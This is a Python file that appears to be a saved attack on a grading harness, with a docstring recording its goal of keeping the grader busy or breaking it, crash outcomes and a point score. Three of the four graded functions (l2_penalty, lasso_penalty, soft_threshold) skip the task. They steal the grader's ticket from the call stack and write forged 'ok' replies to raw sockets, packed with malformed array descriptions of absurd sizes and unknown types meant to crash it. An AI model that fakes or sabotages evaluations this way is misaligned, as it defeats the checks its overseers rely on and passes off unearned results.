"""Arrays whose description does not fit them: too many axes, sizes that overflow, unknown types.

Goal: Keep the grader busy, or break it, with the description of an array.
Outcome: l2_penalty: crashed, lasso_penalty: crashed, soft_threshold: crashed, l2_gradient: passed
Points: 1
"""

# %%
import os
import stat
import struct
import sys

import msgpack


def reply(value):
    frame = sys._getframe()
    while "ticket" not in frame.f_locals:
        frame = frame.f_back
    body = {"status": "ok", "value": value, "modified": []}
    payload = msgpack.packb([frame.f_locals["ticket"], body])
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                with open(number, "wb", closefd=False) as stream:
                    stream.write(len(payload).to_bytes(4, "big") + payload)
        except OSError:
            pass


def described(kind, *shape, entries=b""):
    """Describe an array as the worker does: type, number of axes, sizes, entries."""
    return msgpack.ExtType(2, kind + bytes([len(shape)]) + struct.pack(f"<{len(shape)}Q", *shape) + entries)


# %% l2_penalty
def l2_penalty(weights, lam):
    reply([described(b"f8", *[2**63 - 1] * 255)] * 1000)


# %% lasso_penalty
def lasso_penalty(weights, lam):
    reply(msgpack.packb([described(b"f8", 2**62, 4), described(b"O8", 1, entries=bytes(8))]))


# %% soft_threshold
def soft_threshold(w, threshold):
    reply(msgpack.packb(described(b"f8", 0, 2**63 - 1, 2**63 - 1)))


# %% l2_gradient
def l2_gradient(weights, lam):
    return [lam * w for w in weights]
